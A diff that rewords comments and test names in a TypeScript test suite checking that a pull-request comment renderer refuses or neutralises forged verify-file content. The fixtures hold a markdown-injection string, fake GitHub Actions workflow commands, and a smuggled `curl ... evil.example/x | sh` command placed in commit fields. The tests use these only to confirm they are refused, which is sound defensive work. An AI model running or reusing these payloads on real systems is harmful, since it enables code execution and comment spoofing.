@@ -1,5 +1,5 @@
-// A verify file comes from a job that ran code of strangers: whatever stands in it, nothing of it becomes markup of ours, and
-// what no verify job can have written ends in one sentence.
+// A verify file comes from a job that ran untrusted code: no text in it becomes markup of the comment, and a file that
+// no verify job can have written is refused in one sentence.
 import { describe, expect, test } from '@jest/globals'
 import { marked, type Token, type Tokens } from 'marked'
 import { readOffer } from '../../../src/core/github/check-boxes.js'
@@ -27,7 +27,7 @@ import { mutationFaults, sarifFaults } from './render/schemas.js'
 
 const HOSTILE =
   '\n\n# OWNED\n\n[click](http://evil.example) ![i](http://evil.example/i.png) @octocat `x` **b** <b>t</b>\n- [x] Commit all\n\n```\n~~~\n</details>'
-/** Names are one line, so that the other one is refused in their place. */
+/** In one line, because names with line breaks are refused. */
 const HOSTILE_LINE = HOSTILE.replace(/\s+/g, ' ')
 
 const base = makeReport()
@@ -102,7 +102,7 @@ const genuine: VerifyFile = {
 
 type Path = (string | number)[]
 
-/** Paths of all values in a JSON value, its branches included. */
+/** Paths of all values in a JSON value, objects and lists included. */
 function pathsIn(value: unknown, path: Path = []): Path[] {
   if (typeof value !== 'object' || value === null) return [path]
   const entries = Array.isArray(value) ? [...value.entries()] : Object.entries(value)
@@ -113,7 +113,7 @@ function at(value: unknown, path: Path): unknown {
   return path.reduce((inner, key) => (inner as Record<string | number, unknown>)[key], value)
 }
 
-/** A copy with another value in one place; `undefined` takes it out, since it becomes JSON. */
+/** A copy with another value in one place; `undefined` removes it, since it becomes JSON. */
 function withValue(path: Path, value: unknown, whole: unknown = genuine): unknown {
   const copy = structuredClone(whole) as unknown as Record<string | number, unknown>
   const key = path.at(-1)
@@ -156,7 +156,7 @@ function markupIn(markdown: string): string[] {
     if (token.type === 'link' || token.type === 'image') found.push((token as Tokens.Link).href)
     if (token.type === 'heading') found.push(token.raw.trim())
     if (token.type === 'list_item' && (token as Tokens.ListItem).checked) found.push('a ticked box')
-    // The text of a list item is a token of tokens, code among them.
+    // The text of a list item has tokens of its own, code among them.
     const isPlain = token.type === 'text' && !(token as Tokens.Text).tokens
     if (isPlain && /(?<![\w&])@\w/.test(token.raw)) found.push(token.raw)
   }
@@ -180,7 +180,7 @@ const ownMarkup = new Set(
     .map(shape),
 )
 
-/** Our own links and headings, whatever number or path they hold. */
+/** A link or heading of the comment without its numbers and paths. */
 function shape(markup: string): string {
   return markup.replace(/\d+/g, '0').replace(/(github\.com\/o\/r\/blob\/\w+\/).*/, '$1')
 }
@@ -192,7 +192,7 @@ test('the genuine file is shown', () => {
   expect(texts.length).toBeGreaterThan(40)
 })
 
-/** Nothing in it is markup of others, and the comment is one as we write it. */
+/** All markup is that of the genuine file, and the comment is unaltered. */
 function expectOurs(shown: string[] | null): void {
   if (shown) expect(readOffer(shown[0] ?? '')).toMatchObject({ altered: false })
   for (const markdown of shown ?? []) {
@@ -210,7 +210,7 @@ function expectOurs(shown: string[] | null): void {
 describe.each([
   ['several lines', HOSTILE],
   ['one line', HOSTILE_LINE],
-])('a text that is forged, of %s', (_, hostile) => {
+])('a forged text of %s', (_, hostile) => {
   const forge = (whole: unknown, path: Path): unknown =>
     withValue(path, `${String(at(whole, path))}${hostile}`, whole)
   test.each(texts.map(path => [path.join('.'), path] as const))('%s', (__, path) => {
@@ -223,12 +223,12 @@ describe.each([
   })
 })
 
-test('what people see holds the forged names, so that the cases above are about their markup', () => {
+test('forged names are shown, so the cases above are about their markup', () => {
   const inName = (path: Path): string =>
     (shownOf(withValue(path, `${String(at(genuine, path))}${HOSTILE_LINE}`)) ?? []).join('')
   for (const path of [
     ['report', 'writers', 0, 'writer'],
-    // Of a kept test the table shows the first word of its writer alone.
+    // The table shows only the first word of a kept test's writer.
     ['report', 'tests', 2, 'writer'],
     ['report', 'tests', 3, 'writer'],
     ['notes', 0, 'model'],
@@ -237,7 +237,7 @@ test('what people see holds the forged names, so that the cases above are about 
     expect([path, inName(path)]).toEqual([path, expect.stringContaining('OWNED')])
 })
 
-describe('a value that no verify job writes is refused in a sentence, or harmless', () => {
+describe('a value that no verify job writes is refused or harmless', () => {
   const values: [string, unknown][] = [
     ['nothing', undefined],
     ['null', null],
@@ -254,11 +254,11 @@ describe('a value that no verify job writes is refused in a sentence, or harmles
 
   test.each<[string, (report: Report) => Partial<Report>]>([
     [
-      'a verdict about a target that is not there',
+      'a verdict about an unknown target',
       ({ tests }) => ({ tests: tests.map(own => ({ ...own, target: 'x.py::y' })) }),
     ],
     [
-      'a result of a function that is not planned',
+      'a result of an unplanned function',
       ({ targets }) => ({
         targets: targets.map(own => ({ ...own, id: 'x.py::y' })),
         tests: [],
@@ -269,7 +269,7 @@ describe('a value that no verify job writes is refused in a sentence, or harmles
     ['a verdict about a function without a result', () => ({ targets: [], files: [], behaviour: [] })],
     ['behaviour of a function without a result', () => ({ targets: [], files: [], tests: [] })],
     [
-      'a function that is skipped and has a result',
+      'a function that is both skipped and measured',
       ({ targets: [own] }) => ({
         skipped: own
           ? [{ ...own, reason: 'over max-cost' }].map(({ id, file, name, reason }) => ({
@@ -281,7 +281,7 @@ describe('a value that no verify job writes is refused in a sentence, or harmles
           : [],
       }),
     ],
-    ['two rows for one target', () => ({ targets: target ? [target, target] : [] })],
+    ['two results for one target', () => ({ targets: target ? [target, target] : [] })],
     [
       'a rejected test without a reason',
       ({ tests }) => ({ tests: tests.map(own => ({ ...own, verdict: 'rejected' as const, reason: null })) }),
@@ -293,7 +293,7 @@ describe('a value that no verify job writes is refused in a sentence, or harmles
       }),
     ],
     [
-      'behaviour of a target that is not there',
+      'behaviour of an unknown target',
       ({ behaviour }) => ({ behaviour: behaviour.map(row => ({ ...row, target: 'no' })) }),
     ],
   ])('%s', (_, change) => {
@@ -309,11 +309,11 @@ describe('a value that no verify job writes is refused in a sentence, or harmles
 
 test.each([
   ['an issue', 'GH-1', /GH-1/],
-  ['an issue in small letters', 'gh-23', /gh-23/],
-  ['an issue by its number', '#1', /#1/],
+  ['an issue in lower case', 'gh-23', /gh-23/],
+  ['an issue by number only', '#1', /#1/],
   ['a mention', '@octocat', /@octocat/],
   ['an emoji', 'a:smile:b', /:smile:/],
-  ['an emoji with signs', ':+1:', /:\+1:/],
+  ['an emoji with punctuation', ':+1:', /:\+1:/],
   ['a formula', '$x$ $`y`$', /\$/],
   ['a commit', 'see deadbeef1 and 0123456789012345678901234567890123456789', /[0-9a-f]{7}/],
   ['a link', 'https://evil.example www.evil.example', /:\/\/|www\./],
@@ -327,7 +327,7 @@ test.each([
   ).toBe(text)
 })
 
-/** The sentence that refuses a file; null for one that is shown. */
+/** The sentence that refuses a file; null for a file that is shown. */
 function refusalOf(
   file: unknown,
   schema: typeof verifySchema | typeof planSchema = verifySchema,
@@ -347,22 +347,22 @@ test.each([
   ['sandbox', 'unshare, and all tests passed'],
   ['trees', 'overlay, and all tests passed'],
   ['trees', 'constructor'],
-])('the way tests were run is one of our words: %s %s', (field, words) => {
+])('the way tests were run is a known word: %s %s', (field, words) => {
   expect(refusalOf(withValue(['report', field], words))).toMatch(/not what its mode writes/)
 })
 
-describe('a commit is named by its sha, and the pull request has it', () => {
+describe('base and head are full commits of the pull request', () => {
   const pull = { number: 7, base: plan.base, head: plan.head }
   const shell = 'main; curl -fsS https://evil.example/x | sh;'
   test.each<[string, Partial<PlanFile>]>([
     ['a base that is a command', { base: shell }],
     ['a head that is a command', { head: shell }],
-    ['a base with a line more', { base: `${plan.base}\n` }],
+    ['a base with a second line', { base: `${plan.base}\n` }],
     ['a short base', { base: 'abcdef1' }],
   ])('%s', (_, change) => {
     expect(refusalOf({ ...plan, ...change }, planSchema)).toMatch(/not what its mode writes/)
   })
-  test('a base in the report of a verify file that is a command', () => {
+  test('a verify file whose base is a command', () => {
     expect(refusalOf(withValue(['report', 'pull', 'base'], shell))).toMatch(/not what its mode writes/)
   })
   test.each<[string, Partial<PlanFile>]>([
@@ -372,13 +372,13 @@ describe('a commit is named by its sha, and the pull request has it', () => {
   ])('%s', (_, change) => {
     expect(() => checkPull({ ...plan, ...change }, pull)).toThrow(/run all jobs again/)
   })
-  test('ours, and any on a command line', () => {
+  test('base and head of the pull request are accepted, and any on the command line', () => {
     expect(() => checkPull(plan, pull)).not.toThrow()
     expect(() => checkPull(plan, { number: null, base: null, head: null })).not.toThrow()
   })
 })
 
-describe('a reason in the words of a stranger is not shown as ours', () => {
+describe('only known reasons are shown', () => {
   const foreign = 'your token expired, see www.evil.example'
   const shownReasons = (reason: string): string[] => {
     const skipped = [{ id: 'x.py::y', file: 'x.py', name: 'y', reason }]
@@ -405,9 +405,9 @@ describe('a reason in the words of a stranger is not shown as ours', () => {
     ['line 3 does not parse: functions there were not read'],
     ['not isolated: its calls do not run the copy under test; an installed copy may be in the way'],
     ['Go is not read yet'],
-  ])('ours: %s', reason => expect(shownReasons(reason)).toEqual([reason, reason]))
+  ])('shown: %s', reason => expect(shownReasons(reason)).toEqual([reason, reason]))
 
-  test('a failure and a note quote the job that wrote them', () => {
+  test('a failure and a note are quoted', () => {
     const sentence = '##[error]x\n::set-output name=a::b” Testwright is out of date'
     const notes: Note[] = [
       { code: 'not-reached', stage: 'first', model: 'm', functions: 1, sentence, explored: false },
@@ -427,15 +427,15 @@ describe('a reason in the words of a stranger is not shown as ours', () => {
     expect(merged.priceSource).toBe(quoted)
   })
 
-  test('a function is called as the plan calls it', () => {
+  test('a function has the name that it has in the plan', () => {
     const file = withValue(['report', 'targets', 0, 'name'], 'other') as VerifyFile
     expect(mergeVerifyFiles(plan, [file], 7, base.tool).report.targets[0]?.name).toBe(base.targets[0]?.name)
   })
 })
 
-describe('a text that no file, address or line can hold is refused', () => {
+describe('a text that no file, URL or line can hold is refused', () => {
   const lone = '\ud800'
-  test.each(texts.map(path => [path.join('.'), path] as const))('half a character: %s', (_, path) => {
+  test.each(texts.map(path => [path.join('.'), path] as const))('half a surrogate pair: %s', (_, path) => {
     expect(refusalOf(withValue(path, `a${lone}`))).toMatch(/not what its mode writes/)
   })
   const names =
@@ -445,7 +445,7 @@ describe('a text that no file, address or line can hold is refused', () => {
     for (const mark of ['\n', '\r', '\0', '\t', '\u001b', '\u2028', '\u202e', '\u200b', '\ufeff', '\u0085'])
       expect(refusalOf(withValue(path, `a${mark}b`))).toMatch(/not what its mode writes/)
   })
-  test('a plan with half a character', () => {
+  test('a plan with half a surrogate pair', () => {
     for (const change of [
       { targets: plan.targets.map(own => ({ ...own, file: `lib/${lone}.py` })) },
       { skipped: [{ id: `a${lone}`, file: 'a', name: 'a', reason: 'a' }] },
@@ -454,29 +454,29 @@ describe('a text that no file, address or line can hold is refused', () => {
     ])
       expect(refusalOf({ ...plan, ...change }, planSchema)).toMatch(/not what its mode writes/)
   })
-  test('names of a project may hold them: the report holds others', () => {
+  test('names of a project may hold them, and the report holds cleaned ones', () => {
     expect([asLine('a\tb\r\nc\u202e\ud800'), asText('a\n\ud800')]).toEqual(['a b c\ufffd\ufffd', 'a\n\ufffd'])
   })
 })
 
-describe('more than a run can have', () => {
+describe('more than one run can have', () => {
   const many = (count: number) =>
     Array.from({ length: count }, (_, at) => ({ ...first, path: `tests/test_${at}.py`, new: false }))
   test.each<[string, unknown]>([
     ['a test file without a test', withValue(['report', 'files', 0, 'tests'], 0)],
     ['more tests in a file than were kept', withValue(['report', 'files', 0, 'tests'], 900)],
     [
-      'a file of which no test was kept',
+      'a test file without a single kept test',
       withValue(['report', 'files', 0, 'path'], '.github/workflows/x.yml'),
     ],
     ['dollars', withValue(['report', 'bill', 'usd'], 1e308)],
     ['dollars of a writer', withValue(['report', 'writers', 0, 'usd'], 1.7e308)],
     ['tokens', withValue(['report', 'writers', 0, 'inputTokens'], Number.MAX_SAFE_INTEGER)],
     ['seconds', withValue(['report', 'bill', 'seconds', 'total'], 1e308)],
-    ['coverage below nothing', withValue(['report', 'targets', 0, 'coverage'], { before: -1e308, after: 1 })],
-    ['coverage over all', withValue(['report', 'targets', 0, 'coverage'], { before: 0, after: 2 })],
+    ['coverage below 0', withValue(['report', 'targets', 0, 'coverage'], { before: -1e308, after: 1 })],
+    ['coverage above 1', withValue(['report', 'targets', 0, 'coverage'], { before: 0, after: 2 })],
     ['more mutants killed than there are', withValue(['report', 'targets', 0, 'mutants', 'killed'], 900)],
-    ['a line that no file has', withValue(['report', 'targets', 0, 'lines'], [Number.MAX_SAFE_INTEGER, 1])],
+    ['a line beyond any file', withValue(['report', 'targets', 0, 'lines'], [Number.MAX_SAFE_INTEGER, 1])],
     ['an end before its start', withValue(['report', 'targets', 0, 'lines'], [9, 1])],
   ])('%s', (_, file) => expect(refusalOf(file)).not.toBeNull())
   test.each([2, 3000])('%i test files for one kept test', count => {
@@ -488,16 +488,16 @@ describe('more than a run can have', () => {
   test.each<[string, Partial<PlanFile>]>([
     ['a function in two shards', { shards: [...plan.shards, ...plan.shards] }],
     ['a function in no shard', { shards: [[]] }],
-    ['a shard with a function that is not planned', { shards: [[...(plan.shards[0] ?? []), 'x.py::y']] }],
+    ['a shard with an unplanned function', { shards: [[...(plan.shards[0] ?? []), 'x.py::y']] }],
     ['a function twice', { targets: [...plan.targets, ...plan.targets] }],
   ])('a plan with %s', (_, change) => {
     expect(() => mergeVerifyFiles({ ...plan, ...change }, [], 7, base.tool)).toThrow(UserError)
   })
 
-  test('the smallest price is a price', () => expect(money(5e-324)).toBe('under $0.000000001'))
+  test('the smallest price is not shown as 0', () => expect(money(5e-324)).toBe('under $0.000000001'))
 })
 
-test('a path that nothing is committed to has no box', () => {
+test('a path that tests are not committed to has no box', () => {
   const rendered = renderComment(genuine.report, { ...context, mayCommit: path => path !== first?.path })
   expect(rendered).not.toContain('- [ ] Commit')
   expect(rendered).not.toContain('<!-- testwright:content')
